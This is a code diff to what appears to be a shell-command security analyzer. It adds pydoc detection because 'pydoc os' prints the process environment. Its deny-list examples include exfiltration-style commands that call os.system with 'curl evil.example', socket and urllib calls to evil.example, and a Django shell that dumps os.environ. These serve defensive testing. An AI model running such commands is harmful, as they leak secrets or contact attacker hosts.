@@ -195,6 +195,7 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     }
     return { runs: [...runs, ...(asPython(after, name, /^$/, 'pdb').runs ?? [])] };
   },
+  pydoc: (rest) => pydoc(rest),
   // The clients these mains are, as the programs that do the same (`ftp HOST`, `telnet HOST`, `xdg-open URL`).
   ftplib: (rest, name) => asProgram('ftp', rest, `${name} -m ftplib`),
   // poplib's and imaplib's mains log in to the host they are given; imaplib -s runs its value through /bin/sh.
@@ -226,6 +227,18 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   tarfile: (rest) => archiveModule(rest),
   zipfile: (rest) => archiveModule(rest),
 };
+
+/**
+ * pydoc NAME prints a module's data with its values: os's (posix's, nt's) `environ = environ({…})` is the environment
+ * (`-w` writes the same into NAME.html). A server (`-p`, `-b`) and a keyword search (`-k`) print no module's data.
+ */
+function pydoc(rest: readonly Word[]): Partial<Answer> {
+  const vs = rest.map((w) => value(w));
+  if (vs.some((v) => v === '-p' || v === '-b' || v === '-k')) return {};
+  const at = rest.find((_, i) => vs[i] === undefined || /^(?:os|posix|nt)(?:\.environ)?$/.test(vs[i]!));
+  if (!at) return {};
+  return { dumps: `pydoc ${at.text} prints the data of a module that holds os.environ, the environment among it` };
+}
 
 /** pdb's commands that take no Python; those whose argument is a Python expression (`p EXPR`, `debug CODE`). */
 const PDB_COMMANDS = /^(?:h|help|w|where|bt|d|down|u|up|b|break|tbreak|cl|clear|disable|enable|ignore|condition|commands|s|step|n|next|unt|until|j|jump|r|return|c|cont|continue|l|list|ll|longlist|a|args|source|undisplay|interact|unalias|q|quit|exit|retval|rv|run|restart|end|silent)$/;
@@ -312,6 +325,7 @@ function python(call: Call): Partial<Answer> {
       const more = module(call.args.slice(call.args.indexOf(m) + 1), call.name);
       answer.runs!.push(...(more.runs ?? []));
       answer.uses = [...(answer.uses ?? []), ...(more.uses ?? [])];
+      if (more.dumps) answer.dumps = more.dumps;
     }
   }
   // `python manage.py shell -c CODE`: Django runs CODE (or its stdin) as Python.
@@ -557,6 +571,13 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"'],
       pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
     },
+  },
+  {
+    names: ['pydoc', 'pydoc3'],
+    patterns: [/^pydoc[23](\.\d+)*$/],
+    summary: "pydoc: a module's documentation, data values included (os's environ is the environment)",
+    analyze: (call) => pydoc(call.args),
+    examples: { deny: ['pydoc os', 'pydoc3 -w os', 'python3 -m pydoc os.environ'], pass: ['pydoc json', 'pydoc3 -k environ', 'python3 -m pydoc -b', 'python3 -m pydoc str.split'] },
   },
   {
     names: ['node', 'nodejs', 'ts-node', 'tsx', 'qjs', 'd8', 'jsc', 'rhino'],
